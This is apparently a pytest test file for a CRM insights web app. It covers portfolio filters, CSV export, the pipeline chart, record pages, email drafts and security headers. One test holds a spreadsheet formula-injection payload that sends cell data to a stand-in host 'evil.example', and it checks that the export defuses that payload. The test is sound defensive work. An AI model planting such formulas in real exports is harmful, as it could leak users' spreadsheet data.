"""The insights web app's pages and JSON API on a seeded store, on SQLite and PostgreSQL:
portfolio (filters, sort, at risk first, CSV), pipeline (inline SVG linking to record
pages, the table below), record page, the notice, the trial banner, security headers."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import re
from collections.abc import Iterator
from datetime import date, timedelta
from html import unescape

import httpx
import pytest
import sqlalchemy as sa
from markupsafe import escape
from sqlalchemy.engine import Engine

from insights.notice import EMPLOYMENT_NOTICE
from insights.views import ROW_FIELDS
from storage.crm_tables import Opportunity
from storage.rapport_tables import RelationshipKpi, RiSetting
from storage.types import core_table
from tests.insights.seeded import NOW
from tests.web.book import MANAGER, app_for
from tests.web.server import serving
from web.app import trial_app
from web.identity import Viewer

NOTICE_HTML = str(escape(EMPLOYMENT_NOTICE))  # as Jinja2 escapes it


@pytest.fixture
def manager(book: Engine) -> Iterator[httpx.Client]:
    with serving(app_for(book, MANAGER)) as web:
        yield web


def _record_links(html: str) -> list[str]:
    return re.findall(r'href="/records/(\w+/[\w-]+)"', html)


def test_portfolio_lists_the_team_records_at_risk_first_with_the_notice(
    seller_a: httpx.Client,
) -> None:
    page = seller_a.get("/portfolio")

    assert page.status_code == 200
    links = _record_links(page.text)
    assert "opportunity/o1" in links and "opportunity/o4" in links  # own and team mate's
    assert "opportunity/o8" not in links  # another team's deal
    assert "opportunity/o3" not in links  # won: not open
    # At risk (Poor, or Fair and declining) first: o2, c2, l1 (Poor/Fair declining) ahead of o4.
    risky = {"opportunity/o1", "opportunity/o2", "contact/c2", "contact/c3", "lead/l1"}
    first = links[: len(risky)]
    assert set(first) == risky
    assert f'<footer class="notice"><p>{NOTICE_HTML}</p></footer>' in page.text
    assert "Deal o1" in page.text and "Dana has not answered 3 emails" in page.text


def test_portfolio_filters_and_sorts_from_the_query_string(seller_a: httpx.Client) -> None:
    web = seller_a

    poor = _record_links(web.get("/portfolio?grade=poor").text)
    by_revenue = _record_links(
        web.get("/portfolio?type=opportunity&sort=revenue&at_risk_first=0").text
    )
    bens = _record_links(web.get("/portfolio?owner=ben@ours.example").text)
    declining = _record_links(web.get("/portfolio?trend=declining&type=contact").text)
    # o2 closes 10 days after the clock, o1 30; o5 was due 5 days before; o4 has no date.
    closing = _record_links(web.get("/portfolio?closes_by=2026-12-01&sort=close-date").text)

    assert poor == ["opportunity/o2", "contact/c2"]
    assert by_revenue[:3] == ["opportunity/o1", "opportunity/o2", "opportunity/o5"]
    assert set(bens) == {"opportunity/o4", "lead/l3", "account/a2", "contact/c3"}
    assert declining == ["contact/c3"]
    assert closing == ["opportunity/o2", "opportunity/o5"]


def test_a_bad_filter_is_one_line_naming_the_parameter(seller_a: httpx.Client) -> None:
    web = seller_a

    page = web.get("/portfolio?grade=splendid")
    api = web.get("/api/portfolio?sort=size")
    day = web.get("/api/portfolio?closes_by=next-week")

    assert page.status_code == 400 and "grade: &#39;splendid&#39; is not allowed" in page.text
    assert api.status_code == 400
    assert api.json()["detail"].startswith("sort: 'size' is not allowed; expected one of health")
    assert day.status_code == 400
    assert day.json()["detail"] == (
        "closes_by: 'next-week' is not allowed; expected a date, YYYY-MM-DD"
    )


def test_portfolio_csv_carries_the_notice_and_the_rows_shown(seller_a: httpx.Client) -> None:
    web = seller_a

    download = web.get("/portfolio.csv?type=opportunity")
    shown = web.get("/api/portfolio?type=opportunity").json()

    assert download.status_code == 200
    assert download.headers["content-type"].startswith("text/csv")
    assert "attachment" in download.headers["content-disposition"]
    first, rest = download.text.split("\n", 1)
    assert first == f"# {EMPLOYMENT_NOTICE}"
    rows = list(csv.DictReader(io.StringIO(rest)))
    assert tuple(rows[0]) == ROW_FIELDS
    assert [row["record_id"] for row in rows] == [row["record_id"] for row in shown["rows"]]
    assert "o8" not in {row["record_id"] for row in rows}


def test_portfolio_csv_defuses_cells_a_spreadsheet_would_run_as_formulas(
    book: Engine, seller_a: httpx.Client
) -> None:
    evil = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    opportunities = core_table(Opportunity)
    with book.begin() as connection:
        connection.execute(
            sa.update(opportunities).where(opportunities.c.id == "o1").values(name=evil)
        )
        connection.execute(
            sa.update(opportunities).where(opportunities.c.id == "o4").values(name="@SUM(1)")
        )

    download = seller_a.get("/portfolio.csv?type=opportunity")
    shown = seller_a.get("/api/portfolio?type=opportunity").json()

    rows = {
        row["record_id"]: row
        for row in csv.DictReader(io.StringIO(download.text.split("\n", 1)[1]))
    }
    assert rows["o1"]["name"] == "'" + evil and rows["o4"]["name"] == "'@SUM(1)"
    assert {row["name"] for row in shown["rows"]} >= {evil, "@SUM(1)"}  # JSON as stored
    assert all(
        not cell.startswith(("=", "+", "@")) for row in rows.values() for cell in row.values()
    )


def test_pipeline_inlines_the_chart_with_links_to_record_pages_and_a_table(
    seller_a: httpx.Client,
) -> None:
    page = seller_a.get("/pipeline")

    assert page.status_code == 200
    chart = page.text[page.text.index("<svg") : page.text.index("</svg>")]
    assert "<?xml" not in page.text
    assert 'href="/records/opportunity/o1"' in chart
    assert re.search(r'<g id="bubble-0">\s*<title>Deal o1 \(Fair, 40\) - Dana', chart)
    assert "opportunity/o8" not in page.text  # another team's
    table = page.text[page.text.index("<table") :]
    assert '<a href="/records/opportunity/o1">Deal o1</a>' in table
    # o2 closes 10 days after the clock (shown); o5's date is past; o4 has none.
    assert "Not shown: 1 without a close date, 1 with a close date in the past" in page.text


def test_record_page_shows_health_factors_reasons_stakeholders_and_timeline(
    seller_a: httpx.Client,
) -> None:
    page = seller_a.get("/records/opportunity/o1").text

    assert '<span class="score">40</span>' in page
    assert "Grade <strong>Fair</strong>, trend <strong>Declining</strong>" in page
    assert "recency" in page and "last reply 20 days ago" in page
    assert "<li>Dana has not answered 3 emails</li>" in page
    assert 'Weakest key contact: <a href="/records/contact/c2">Eli Park</a>' in page
    assert "Decision maker" in page and "Technical buyer" in page
    assert "Ana Seller (organizer)" in page and "Dana Ruiz (required)" in page
    assert "2026-11-17 12:00 UTC" in page  # the meeting, three days before the clock
    # The 13 weeks as bars (1 sent, 2 received each week: half and full height).
    assert page.count('<rect class="ours"') == 13 and page.count('<rect class="theirs"') == 13
    assert 'y="51.0" width="11" height="45.0"><title>Week of 2026-11-16: emails sent: 1' in page
    assert NOTICE_HTML in page


def test_a_record_without_emails_says_so_instead_of_an_empty_chart(
    book: Engine, manager: httpx.Client
) -> None:
    quiet = [  # 13 weeks of meetings, not one email
        {"week_start": (date(2026, 8, 24) + timedelta(weeks=n)).isoformat(), "meetings": 1}
        for n in range(13)
    ]
    kpi = core_table(RelationshipKpi)
    with book.begin() as connection:
        connection.execute(sa.update(kpi).where(kpi.c.record_id == "o8").values(weekly=quiet))
    page = manager.get("/records/opportunity/o8").text

    assert "No emails in these 13 weeks." in page
    assert '<figure class="weekly">' not in page
    # The meetings have their own chart: a full-height bar each week, no calls.
    assert page.count('<rect class="meetings"') == 13
    assert 'height="90.0"><title>Week of 2026-11-16: meetings: 1</title>' in page
    assert page.count('<rect class="calls"') == 13 and "phone calls: 1<" not in page
    assert "No meetings or phone calls" not in page
    assert page.count('<tr><td class="date">') >= 13  # the weeks' table is still there


def test_the_app_serves_its_favicon(seller_a: httpx.Client) -> None:
    icon = seller_a.get("/favicon.ico")

    assert icon.status_code == 200
    assert icon.headers["content-type"] == "image/x-icon"
    assert icon.content[:4] == b"\x00\x00\x01\x00"  # an ICO file
    assert '<link rel="icon" href="/favicon.ico">' in seller_a.get("/portfolio").text


def test_contact_page_lists_who_knows_them(seller_a: httpx.Client) -> None:
    page = seller_a.get("/records/contact/c1").text

    assert "Who knows them" in page
    assert "<td>Ben Seller</td><td>ben@ours.example</td><td>strong</td>" in page


def test_draft_introduction_downloads_the_cli_s_eml(book: Engine, seller_a: httpx.Client) -> None:
    page = seller_a.get("/records/contact/c1").text
    link = re.search(r'id="draft-u2" href="([^"]+)"', page)
    assert link is not None
    eml = seller_a.get(unescape(link.group(1)))

    assert eml.status_code == 200
    assert eml.headers["content-type"] == "message/rfc822"
    assert eml.headers["content-disposition"] == (
        'attachment; filename="introduction-dana-ruiz-via-ben-seller.eml"'
    )
    message = email.message_from_bytes(eml.content, policy=email.policy.default)
    assert message["From"] == "Ana Seller <ana@ours.example>"
    assert message["To"] == "Ben Seller <ben@ours.example>"
    assert "Dana Ruiz" in message["Subject"]
    assert message["X-Rapport-Notice"] == EMPLOYMENT_NOTICE
    assert message["X-Unsent"] == "1"
    # Not a person, not one of their introducers, the seller themself: as a missing record.
    for path in (
        "/records/opportunity/o1/introduction.eml",
        "/records/contact/c1/introduction.eml?introducer=u3",
        "/records/contact/c1/introduction.eml?introducer=u1",
    ):
        assert seller_a.get(path).status_code == 404, path
    # Who-knows-whom switched off: no button, and the download is a missing record.
    with book.begin() as connection:
        connection.execute(
            sa.insert(core_table(RiSetting)),
            {"key": "switch.who_knows_whom", "value": False, "updated_at": NOW},
        )
    assert 'id="draft-u2"' not in seller_a.get("/records/contact/c1").text
    assert seller_a.get(unescape(link.group(1))).status_code == 404


def test_record_api_matches_the_page(seller_a: httpx.Client) -> None:
    record = seller_a.get("/api/records/opportunity/o1").json()

    assert record["notice"] == EMPLOYMENT_NOTICE
    assert (record["health_score"], record["grade"], record["trend"]) == (40, "Fair", "Declining")
    assert [s["contact_id"] for s in record["stakeholders"]] == ["c2", "c1"]  # weakest first
    assert record["weakest_contact"]["name"] == "Eli Park"
    assert record["timeline"]["interactions"][0]["kind"] == "meeting"


def test_every_response_carries_the_security_headers(seller_a: httpx.Client) -> None:
    web = seller_a

    for path in (
        "/portfolio",
        "/api/portfolio",
        "/static/rapport.css",
        "/nowhere",
        "/records/opportunity/nope",
        "/portfolio.csv",
        "/api/openapi.json",
    ):
        headers = web.get(path).headers
        policy = headers["content-security-policy"]
        assert "script-src 'none'" in policy and "frame-ancestors 'none'" in policy, path
        assert "unsafe-inline" not in policy  # no inline script, and no inline style either
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["referrer-policy"] == "no-referrer", path


def test_no_page_loads_anything_from_elsewhere(manager: httpx.Client) -> None:
    web = manager

    for path in ("/portfolio", "/pipeline", "/records/opportunity/o1"):
        html = web.get(path).text
        assert "<script" not in html
        assert not re.search(r'(href|src)="(https?:)?//', html), path


def test_the_trial_says_so_on_every_page(book: Engine, manager: httpx.Client) -> None:
    with serving(trial_app(book)) as trial:
        pages = {path: trial.get(path).text for path in PATHS}
        listed = trial.get("/portfolio").text

    for path in PATHS:
        assert "Trial mode: no sign-in" in pages[path], path
        assert "Trial mode" not in manager.get(path).text, path
    assert "opportunity/o8" in listed  # everyone a manager


PATHS = ("/portfolio", "/pipeline", "/records/opportunity/o8", "/nowhere")


def test_the_openapi_document_lists_the_json_api(seller_a: httpx.Client) -> None:
    document = seller_a.get("/api/openapi.json").json()

    assert set(document["paths"]) == {
        "/api/me",
        "/api/portfolio",
        "/api/pipeline",
        "/api/records/{record_type}/{record_id}",
    }


def test_a_seller_with_no_records_sees_empty_pages_not_errors(book: Engine) -> None:
    newcomer = Viewer(system_user_id="u-new", name="New Seller")  # no system_user row

    with serving(app_for(book, newcomer)) as web:
        listed, chart = web.get("/portfolio"), web.get("/pipeline")
        record = web.get("/records/opportunity/o1")

    assert listed.status_code == 200 and "No record matches." in listed.text
    assert chart.status_code == 200 and "No open opportunity to show." in chart.text
    assert "<svg" in chart.text  # the empty chart still draws, with its message
    assert record.status_code == 404 and "Deal o1" not in record.text
